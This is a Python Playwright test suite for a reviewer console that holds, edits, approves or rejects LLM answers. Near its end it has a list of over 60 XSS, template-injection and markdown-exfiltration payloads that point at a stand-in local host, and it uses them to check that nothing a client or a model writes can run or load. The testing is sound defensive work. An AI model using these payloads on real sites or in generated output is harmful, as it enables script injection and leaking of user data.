"""The console in a real browser: every page, the whole way of an answer through the queue, and what must never run."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import openai
import pytest
from axe_playwright_python.sync_playwright import Axe
from openai.types.chat import ChatCompletion
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Response, expect, sync_playwright
from tests.console import CHROMIUM, House, house

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium here; on Debian: apt install chromium")

PAGES = ("/", "/queue", "/decisions", "/review", "/policy")
PHONE = {"width": 390, "height": 844}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One browser for all of these tests."""
    with sync_playwright() as playwright:
        made = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield made
        made.close()


class Window:
    """A page of somebody, and all that went wrong in it or was asked of another server."""

    def __init__(self, context: BrowserContext, home: House, url: str) -> None:
        self.page, self.home, self.url = context.new_page(), home, url
        self.wrong: list[str] = []
        self.page.on("pageerror", lambda error: self.wrong.append(f"error {error}"))
        self.page.on("dialog", self._asked)
        self.page.on("console", self._said)
        self.page.on("popup", lambda page: self.wrong.append(f"popup {page.url}"))
        self.page.on("response", self._answered)
        context.route("**/*", lambda route: route.continue_() if self._ours(route.request.url) else route.abort())

    def _ours(self, url: str) -> bool:
        ours = url.startswith((f"{self.url}/", "data:,"))
        if not ours:
            self.wrong.append(f"asked {url}")
        return ours

    def _asked(self, dialog: Dialog) -> None:
        self.wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _said(self, message: Any) -> None:
        if "Failed to load resource" not in message.text and "[DOM]" not in message.text:
            self.wrong.append(f"said {message.text}")

    def _answered(self, response: Response) -> None:
        if response.url.startswith(self.url) and "default-src 'none'" not in (
            response.header_value("content-security-policy") or ""
        ):
            self.wrong.append(f"no policy on {response.url}")

    def go(self, path: str) -> int:
        """The status of a page that is opened."""
        got = self.page.goto(self.url + path)
        assert got is not None
        return got.status

    def press(self, button: str) -> None:
        """Press a button by its name."""
        self.page.get_by_role("button", name=button, exact=True).click()

    def alert(self) -> str:
        """What the page says is wrong."""
        return self.page.get_by_role("alert").inner_text()


@contextmanager
def signed_in(browser: Browser, home: House, who: str = "Anna", **look: Any) -> Iterator[Window]:
    """A window of somebody who has signed in; at the end nothing may have gone wrong in it."""
    with browser.new_context(**look) as context:
        window = Window(context, home, home.url)
        assert window.go("/sign-in") == 200
        window.page.get_by_label("Reviewer token").fill(home.desk.tokens[who])
        window.press("Sign in")
        expect(window.page.get_by_role("heading", level=1)).to_have_text("Overview")
        yield window
        assert window.wrong == []


def fetched(home: House, told: Any) -> str | None:
    """What an unmodified client gets where it was told to ask."""
    with openai.OpenAI(base_url=home.desk.bench.url, api_key="any", max_retries=0) as client:
        return client.get(told["poll"].removeprefix("/v1"), cast_to=ChatCompletion).choices[0].message.content


def test_who_has_no_token_sees_nothing(browser: Browser, tmp_path: Path) -> None:
    """Every page leads to the sign-in and back, a wrong token says so, and signing out ends it."""
    with house(tmp_path) as home, browser.new_context() as context:
        window = Window(context, home, home.url)
        for path in (*PAGES, "/decisions?status=held", "/queue/1a2-b"):
            window.go(path)
            assert "/sign-in?next=" in window.page.url
        window.page.get_by_label("Reviewer token").fill("lwr_wrong")
        window.press("Sign in")
        assert "nobody's token" in window.alert()
        window.go("/decisions?status=held")
        window.page.get_by_label("Reviewer token").fill(home.desk.tokens["Bo"])
        window.press("Sign in")
        assert window.page.url == f"{home.url}/decisions?status=held"
        (cookie,) = context.cookies()
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        window.press("Sign out")
        window.go("/")
        assert "/sign-in" in window.page.url


@pytest.mark.parametrize(("who", "look"), [("Anna", "light"), ("Anna", "dark"), ("Anna", "phone"), ("Cleo", "light")])
def test_every_page_is_accessible(browser: Browser, tmp_path: Path, who: str, look: str) -> None:
    """Light, dark and on a phone, for both roles, no page has a fault that axe finds, nor is it wider than the screen."""
    more = {"viewport": PHONE} if look == "phone" else {"color_scheme": look}
    with house(tmp_path) as home:
        told = home.held("Which risks\nare there?", "Clause 9:\n\tnone.")
        home.do(home.desk.bench.ask("Hello there"))
        home.do(home.desk.bench.ask("Hello", {"laneway-workload": "contracts"}))
        with signed_in(browser, home, who, **more) as window:
            story = f"/decisions/{told['review']}"
            for path in (*PAGES, f"/queue/{told['review']}", story, "/decisions/none", "/sign-in"):
                status = window.go(path)
                assert status == (404 if path.endswith("none") else 200), path
                _accessible(window.page, path)


def _accessible(page: Page, path: str) -> None:
    found = Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
    assert [(path, v["id"], v["nodes"][0]["html"][:200]) for v in found] == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), f"{path} is wider than the screen"
    levels = [int(e.evaluate("e => e.tagName[1]")) for e in page.query_selector_all("h1, h2, h3, h4")]
    assert levels[0] == 1 and levels.count(1) == 1
    assert all(b - a <= 1 for a, b in itertools.pairwise(levels)), f"{path} skips a level of headings"


def test_an_edited_answer_reaches_the_client(browser: Browser, tmp_path: Path) -> None:
    """Held, read, edited and released: an unmodified client that polls gets the edited words and no others."""
    with house(tmp_path) as home:
        told = home.held("Which risks are there?", "There is one: clause 9.")
        with signed_in(browser, home) as window:
            window.go("/queue")
            window.page.get_by_role("rowheader").get_by_role("link").click()
            page = window.page
            expect(page.get_by_text("Which risks are there?")).to_be_visible()
            box = page.get_by_label("The whole answer")
            assert box.input_value() == "There is one: clause 9."
            box.fill("There are two:\nclauses 9 and 11.")
            window.press("Save the edit and release it")
            expect(page.get_by_text("Nothing waits")).to_be_visible()
            assert fetched(home, told) == "There are two:\nclauses 9 and 11."
            window.go(f"/decisions/{told['review']}")
            expect(page.get_by_text("in a reviewer's words").first).to_be_visible()
            assert "clauses 9 and 11" not in page.content()


def test_an_approval_by_keyboard_alone(browser: Browser, tmp_path: Path) -> None:
    """From the sign-in to the release nothing but keys is needed, and what has the focus always shows it."""
    with house(tmp_path) as home, browser.new_context() as context:
        told = home.held(answer="As it is.")
        window = Window(context, home, home.url)
        window.go(f"/queue/{told['review']}")
        page = window.page
        expect(page.get_by_label("Reviewer token")).to_be_focused()
        page.keyboard.type(home.desk.tokens["Bo"])
        page.keyboard.press("Enter")
        page.wait_for_url(f"**/queue/{told['review']}")
        page.keyboard.press("Tab")
        expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
        page.keyboard.press("Enter")
        for _ in range(40):
            page.keyboard.press("Tab")
            assert page.evaluate("getComputedStyle(document.activeElement).outlineStyle") != "none"
            if page.evaluate("document.activeElement.textContent") == "Approve":
                break
        page.keyboard.press("Enter")
        page.wait_for_url("**/queue?done=approved")
        assert fetched(home, told) == "As it is."
        assert window.wrong == []


def test_a_rejected_answer_never_arrives(browser: Browser, tmp_path: Path) -> None:
    """A rejection wants a comment where the policy does, keeps what was written, and tells the client."""
    with house(tmp_path) as home:
        told = home.held(answer="Forget the clause.")
        with signed_in(browser, home) as window:
            window.go(f"/queue/{told['review']}")
            window.page.get_by_label("The whole answer").fill("My draft\n of it")
            window.press("Reject")
            assert "wants a comment" in window.alert()
            expect(window.page.get_by_label("Comment")).to_have_attribute("aria-invalid", "true")
            assert window.page.get_by_label("The whole answer").input_value() == "My draft\n of it"
            window.page.get_by_label("Comment").fill("It forgets clause 11.")
            window.press("Reject")
            expect(window.page.get_by_text("Nothing waits")).to_be_visible()
        with pytest.raises(openai.PermissionDeniedError) as caught:
            fetched(home, told)
        assert caught.value.code == "review_rejected"


def test_an_extract_goes_on_under_a_lower_class(browser: Browser, tmp_path: Path) -> None:
    """Reclassified: the extract is a request of its own, linked to its source; the original whole is refused."""
    with house(tmp_path) as home:
        told = home.held("Which risks does the Berg contract hold?", "Many.")
        with signed_in(browser, home) as window:
            window.go(f"/queue/{told['review']}")
            page = window.page
            page.get_by_label("The extract", exact=True).fill("Which risks does the Berg contract hold?")
            page.get_by_label("Comment").fill("Without the name.")
            page.get_by_label("Class of the extract").select_option("public")
            window.press("Send the extract")
            assert "original" in window.alert()
            page.get_by_label("The extract", exact=True).fill("Which risks do such contracts hold?")
            home.desk.bench.home.answer = home.desk.bench.premium.answer = "Such contracts hold two."
            window.press("Send the extract")
            page.wait_for_url("**/queue?done=reclassified")
            window.go(f"/decisions/{told['review']}")
            expect(page.get_by_text("released as an extract").first).to_be_visible()


def test_four_eyes_see_the_same_words(browser: Browser, tmp_path: Path) -> None:
    """One approval is not enough, nor two by one person; the second person's of the edited words releases."""
    two = "  - {says: Two lawyers read it., when: {workload: two}, release: after-approval, eyes: 2}"
    with house(tmp_path, more_work="\n  two: {sensitivity: internal}", tail=two) as home:
        told = home.held(answer="One.", laneway_workload="two")
        with signed_in(browser, home) as anna, signed_in(browser, home, "Bo") as bo:
            anna.go(f"/queue/{told['review']}")
            anna.page.get_by_label("The whole answer").fill("One, edited.")
            anna.press("Save the edit")
            anna.press("Approve")
            expect(anna.page.get_by_text("1 of 2 approved")).to_be_visible()
            assert list(home.desk.bench.gateway.desk.items) == [told["review"]]
            bo.go(f"/queue/{told['review']}")
            expect(bo.page.get_by_role("heading", name="What is to be released, as edited")).to_be_visible()
            bo.press("Approve")
            bo.page.wait_for_url("**/queue?done=approved")
        assert fetched(home, told) == "One, edited."


def test_nobody_decides_about_their_own_request(browser: Browser, tmp_path: Path) -> None:
    """Who asked sees that it is theirs, and has no form."""
    with house(tmp_path, callers=("anna.k",)) as home:
        told = home.held(laneway_user="anna.k")
        with signed_in(browser, home) as window:
            window.go(f"/queue/{told['review']}")
            expect(window.page.get_by_text("You asked for this answer")).to_be_visible()
            assert window.page.get_by_role("button", name="Approve").count() == 0
        with signed_in(browser, home, "Bo") as window:
            window.go(f"/queue/{told['review']}")
            window.press("Approve")
            window.page.wait_for_url("**/queue?done=approved")


def test_an_auditor_sees_no_words(browser: Browser, tmp_path: Path) -> None:
    """The queue, the item and the story are there for an auditor, and what was asked and answered is not."""
    with house(tmp_path) as home:
        told = home.held("A secret question", "A secret answer")
        with signed_in(browser, home, "Cleo") as window:
            for path in ("/queue", f"/queue/{told['review']}", f"/decisions/{told['review']}"):
                assert window.go(path) == 200
                assert "secret" not in window.page.content().lower()
                assert window.page.locator("main form[method=post]").count() == 0


def test_two_reviewers_at_once(browser: Browser, tmp_path: Path) -> None:
    """Who comes second is told who was first, and has what they wrote."""
    with house(tmp_path) as home:
        told = home.held(answer="One of us.")
        with signed_in(browser, home) as anna, signed_in(browser, home, "Bo") as bo:
            for window in (anna, bo):
                window.go(f"/queue/{told['review']}")
            bo.page.get_by_label("The whole answer").fill("My own long words")
            anna.press("Approve")
            anna.page.wait_for_url("**/queue?done=approved")
            bo.press("Save the edit and release it")
            text = bo.page.locator("main").inner_text()
            assert "Anna" in text and "My own long words" in text
        assert fetched(home, told) == "One of us."


def test_who_is_removed_is_out_at_the_next_page(browser: Browser, tmp_path: Path) -> None:
    """A form that was open changes nothing any more, and what was written into it is still there."""
    with house(tmp_path) as home:
        told = home.held()
        with signed_in(browser, home) as window:
            window.go(f"/queue/{told['review']}")
            window.page.get_by_label("The whole answer").fill("Long words. " * 1000)
            assert home.site.people.remove("Anna")
            window.press("Save the edit and release it")
            assert "not signed in" in window.page.get_by_role("heading", level=1).inner_text()
            assert "Long words. Long words." in window.page.locator("main").inner_text()
        assert list(home.desk.bench.gateway.desk.items) == [told["review"]]


def test_what_expires_is_not_released(browser: Browser, tmp_path: Path) -> None:
    """A form that comes after the time is told so, and the client too."""
    with house(tmp_path) as home:
        told = home.held(answer="Late.")
        with signed_in(browser, home) as window:
            window.go(f"/queue/{told['review']}")
            _later(home, days=8)
            window.press("Approve")
            assert re.search("over|expired|decided", window.page.locator("main").inner_text())
        with pytest.raises(openai.PermissionDeniedError) as caught:
            fetched(home, told)
        assert caught.value.code == "review_expired"


def _later(home: House, days: int) -> None:
    log = home.desk.bench.gateway.log
    now: Callable[[], int] = log.now
    log.now = lambda: now() + days * 86_400_000_000_000


def test_the_list_is_walked_and_filtered_by_its_address(browser: Browser, tmp_path: Path) -> None:
    """Older and newer pages, filters by column and what stands in a row are all in the address and found again."""
    with house(tmp_path) as home:
        for i in range(60):
            home.do(home.desk.bench.ask(f"Hello {i}", {"laneway-workload": "contracts"} if i % 3 == 0 else {}))
        with signed_in(browser, home, "Cleo") as window:
            page = window.page
            window.go("/decisions")
            assert page.locator("tbody tr").count() == 50
            page.get_by_role("link", name="Older").first.click()
            assert page.locator("tbody tr").count() == 10 and "before=" in page.url
            page.get_by_role("link", name="Newer").first.click()
            assert page.locator("tbody tr").count() == 50
            page.goto(f"{home.url}/decisions")
            page.get_by_label("Workload").select_option("contracts")
            page.get_by_label("Rejected lane").select_option("premium")
            window.press("Show")
            assert page.locator("tbody tr").count() == 20 and "workload=contracts" in page.url
            row = page.locator("tbody tr").first.inner_text()
            assert "premium" in row and "routes[1]" in row and "holds" in row and "answered" in row
            page.locator("tbody th a").first.click()
            expect(page.get_by_role("heading", name="What happened")).to_be_visible()


_HOST = "http://127.0.0.1:9"
PAYLOADS = [
    "<script>alert(1)</script>", "</pre><script>alert(2)</script>", "<ScRiPt src={h}/a.js></sCrIpT>",
    "<img src=x onerror=alert(3)>", '"><img src={h}/b.png>', "<svg onload=alert(4)>", "<svg><script>alert(5)</script></svg>",
    "<body onload=alert(6)>", "<iframe src={h}/c></iframe>", '<iframe srcdoc="<script>alert(7)</script>">',
    "<object data={h}/d></object>", "<embed src={h}/e>", "<link rel=stylesheet href={h}/f.css>", "<base href={h}/>",
    "<meta http-equiv=refresh content='0;url={h}/g'>", "<form action={h}/h><button>go</button></form>",
    "<style>@import '{h}/i.css';</style>", "<style>*{background:url({h}/j)}</style>", "<div style='background:url({h}/k)'>x</div>",
    "</textarea><script>alert(8)</script>", "</textarea><img src={h}/l onerror=alert(9)>", "</title><script>alert(10)</script>",
    "' onfocus=alert(11) autofocus x='", '" onmouseover=alert(12) x="', "` onload=alert(13) `", "<a href='javascript:alert(14)'>x</a>",
    "javascript:alert(15)", "data:text/html,<script>alert(16)</script>", "<details open ontoggle=alert(17)>",
    "<video><source onerror=alert(18)></video>", "<audio src={h}/m autoplay>", "<input onfocus=alert(19) autofocus>",
    "<marquee onstart=alert(20)>", "<math><mi xlink:href='javascript:alert(21)'>x</mi></math>", "<table background={h}/n>",
    "<!--><script>alert(22)</script>-->", "<![CDATA[<script>alert(23)</script>]]>", "<noscript><img src={h}/o></noscript>",
    "{{ 7*7 }}", "{% raw %}<script>alert(24)</script>{% endraw %}", "{{ ''.__class__.__mro__ }}", "${alert(25)}",
    "![leak]({h}/p.png?q=secret)", "[click]({h}/q?secret)", "[click](javascript:alert(26))", "![x][1]\n\n[1]: {h}/r.png",
    "<{h}/s>", "{h}/t?data=secret", "[![x]({h}/u.png)]({h}/v)", '<img srcset="{h}/w 1x">', "<picture><source srcset={h}/x></picture>",
    "&lt;script&gt;alert(27)&lt;/script&gt;", "&#60;script&#62;alert(28)&#60;/script&#62;", "\\u003cscript\\u003ealert(29)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(30)+ADw-/script+AD4-", "\u202e<script>alert(31)</script>\u202c", "\u2066evil\u2069 \u200b\u200d\ufeff",
    "%3Cscript%3Ealert(32)%3C/script%3E", "<a ping={h}/y href=#>x</a>", "<x contenteditable onblur=alert(33)>",
    "<script>fetch('{h}/z')</script>", "<script>new Image().src='{h}/za'</script>", "<link rel=prefetch href={h}/zb>",
    "<link rel=dns-prefetch href=//127.0.0.2>", "<template><script>alert(34)</script></template>", "\x1b[31mred\x07\x08",
]  # fmt: skip


def test_nothing_that_a_client_or_a_model_wrote_ever_runs_or_loads(browser: Browser, tmp_path: Path) -> None:
    """More than 60 hostile texts as prompt, answer, edit, comment, model and reason: none runs, none loads, all show."""
    assert len(PAYLOADS) >= 60
    texts = [payload.replace("{h}", _HOST) for payload in PAYLOADS]
    says = json.dumps(texts[1])
    rule = f"  - {{says: {says}, when: {{workload: two}}, release: after-approval}}"
    with house(tmp_path, more_work="\n  two: {sensitivity: internal}", tail=rule) as home:
        home.desk.bench.premium.model = home.desk.bench.home.model = texts[0]
        with signed_in(browser, home) as window, signed_in(browser, home, "Cleo") as auditor:
            for first in range(0, len(texts), 22):
                text = "\n".join(texts[first : first + 22])
                team = texts[first][:90] if texts[first].isprintable() else "x"
                told = home.held(text, text, laneway_team=team, laneway_workload="two")
                for path in ("/queue", f"/queue/{told['review']}", f"/decisions/{told['review']}"):
                    window.go(path)
                    _inert(window)
                window.go(f"/queue/{told['review']}")
                window.page.get_by_label("Comment").fill(text)
                window.page.get_by_label("The extract", exact=True).fill(text)
                window.press("Send the extract")  # refused, as that is the original: all of it comes back
                _inert(window)
                window.page.get_by_label("The whole answer").fill(text + "!")
                window.press("Save the edit and release it")
                answered = home.do(home.desk.bench.ask("Hello"))
                reason = " ".join(filter(str.isprintable, texts[first : first + 22]))[:480]
                word = {
                    "decision": answered.headers["laneway-decision"],
                    "accepted": False,
                    "reason": reason,
                }
                home.do(home.desk.call("POST", "/feedback", None, **word))
                for path in ("/", "/decisions", f"/decisions/{word['decision']}", "/review", "/policy"):
                    for each in (window, auditor):
                        each.go(path)
                        _inert(each)


def _inert(window: Window) -> None:
    """Nothing of the page is more than text: only our own kinds of elements are in it, and links lead here."""
    page = window.page
    assert (
        page.locator("script, img, iframe, object, embed, base, audio, video, style, template, math, noscript").count()
        == 0
    )
    outside = page.eval_on_selector_all("a[href], form[action], link[href]",
                                    "all => all.map(e => new URL(e.getAttribute('href') ?? e.getAttribute('action'), "
                                    "document.baseURI).href)")  # fmt: skip
    assert [url for url in outside if not url.startswith((window.url + "/", "data:,"))] == []
    handlers = "all => all.flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on')).map(a => a.name)"
    assert page.eval_on_selector_all("*", handlers) == []
    assert "\u202e" not in page.locator("main").inner_text()
